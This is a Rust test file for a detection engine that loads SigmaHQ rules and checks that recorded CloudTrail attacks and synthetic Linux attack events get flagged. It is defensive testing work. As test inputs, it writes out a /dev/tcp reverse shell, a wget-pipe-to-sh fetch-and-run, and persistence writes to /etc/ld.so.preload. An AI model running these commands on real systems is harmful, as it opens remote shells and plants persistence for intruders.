//! Rules and records that nobody here wrote: SigmaHQ's load as they are, and recorded attacks are found with them.
//! They are not in the project: where they are not at hand, these tests say so.

use super::*;
use serde_json::json;
use std::collections::BTreeSet;
use std::path::PathBuf;

/// A part of the shared data, beside the project.
fn shared(part: &str) -> Option<PathBuf> {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../shared/data").join(part);
    if path.exists() {
        return Some(path);
    }
    eprintln!("NOT TESTED: {part} is not at {}", path.display());
    None
}

#[test]
fn every_rule_loads() {
    for part in ["sigma/linux", "sigma/cloud", "sigma/application"] {
        let Some(dir) = shared(part) else { continue };
        let (rules, report) = Rules::load(&[RuleSource::Dir(dir)], &[]);
        assert!(report.skipped.is_empty(), "{part}: {:?}", report.skipped);
        assert!(report.passed_over.is_empty(), "{part}: {:?}", report.passed_over);
        assert_eq!(rules.len(), report.files, "{part}");
        let blind: BTreeSet<&str> =
            report.never_fires().map(|(_, why)| why).filter(|why| !why.contains("service")).collect();
        let wanted = if part == "sigma/linux" { &["no source gives `DestinationHostname`"][..] } else { &[] };
        assert_eq!(
            blind.into_iter().collect::<Vec<_>>(),
            wanted,
            "{part}: the others of a source that quell has can fire"
        );
    }
}

#[test]
fn recorded_attacks_on_aws_are_found() {
    let (Some(rules), Some(records)) = (shared("sigma/cloud/aws"), shared("cloudtrail")) else { return };
    let (rules, _) = Rules::load(&[RuleSource::Dir(rules)], &[]);
    let rules = Arc::new(rules);
    let mut found = BTreeSet::new();
    for entry in std::fs::read_dir(records).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_none_or(|end| end != "json") {
            continue;
        }
        let input = std::io::BufReader::new(std::fs::File::open(&path).unwrap());
        let mut detector = Detector::new(rules.clone());
        for event in crate::adapt::read(None, &path, input) {
            let event = event.unwrap_or_else(|wrong| panic!("{}", wrong.mistake.what));
            for detection in run(&mut detector, &event) {
                let stem = path.file_stem().unwrap().to_string_lossy().into_owned();
                found.insert(format!("{stem}: {}", detection.rule.title));
            }
        }
    }
    for wanted in [
        "aws.defense-evasion.cloudtrail-stop: AWS CloudTrail Important Change",
        "aws.defense-evasion.cloudtrail-delete: AWS CloudTrail Important Change",
    ] {
        assert!(found.contains(wanted), "{wanted}: {found:#?}");
    }
}

#[test]
fn attacks_on_linux_are_found_and_explained() {
    let Some(dir) = shared("sigma/linux") else { return };
    let (rules, _) = Rules::load(&[RuleSource::Dir(dir)], &[]);
    let mut detector = Detector::new(Arc::new(rules));
    let run_of = |image: &str, args: &[&str], parent: &str| {
        let line = args.join(" ");
        event(
            Class::ProcessCreation,
            &line,
            0,
            json!({"Image": image, "CommandLine": line, "ParentImage": parent, "User": "www-data"}),
            json!({"process": {"image": image, "args": args, "command_line": line}}),
        )
    };
    let write = |path: &str| {
        let own = json!({"process": {"image": "/usr/bin/tee"}, "file": {"path": path, "operation": "create"}});
        event(Class::FileEvent, path, 0, json!({"TargetFilename": path, "Image": "/usr/bin/tee"}), own)
    };
    let rows = [
        (
            run_of("/usr/bin/bash", &["bash", "-c", "sh -i >& /dev/tcp/203.0.113.7/4444 0>&1"], "/usr/sbin/apache2"),
            "process_creation",
        ),
        (run_of("/usr/bin/base64", &["base64", "-d", "payload"], "/usr/bin/bash"), "process_creation"),
        (run_of("/usr/sbin/getcap", &["getcap", "-r", "/"], "/usr/bin/bash"), "auditd"),
        (run_of("/usr/bin/wget", &["wget", "http://203.0.113.7/x"], "/usr/bin/bash"), "auditd"),
        (run_of("/usr/bin/truncate", &["truncate", "-s", "+1G", "/tmp/x"], "/usr/bin/bash"), "auditd keywords"),
        (
            run_of("/usr/bin/bash", &["bash", "-c", "wget -qO - http://203.0.113.7 | sh"], "/usr/sbin/nginx"),
            "shell keywords",
        ),
        (write("/etc/ld.so.preload"), "auditd"),
        (write("/etc/profile.d/x.sh"), "file_event"),
    ];
    for (event, source) in rows {
        let found = run(&mut detector, &event);
        let titles: Vec<&str> = found.iter().map(|detection| &*detection.rule.title).collect();
        println!("{}: {titles:?}", event.head.id);
        assert!(!found.is_empty(), "{source}: {}", event.head.id);
        for detection in &found {
            assert!(!detection.matched.is_empty(), "{}: nothing explains it", detection.rule.title);
        }
    }
    let honest = run_of("/usr/bin/ls", &["ls", "-l", "/srv"], "/usr/bin/bash");
    assert_eq!(names(&run(&mut detector, &honest)), Vec::<&str>::new());
}
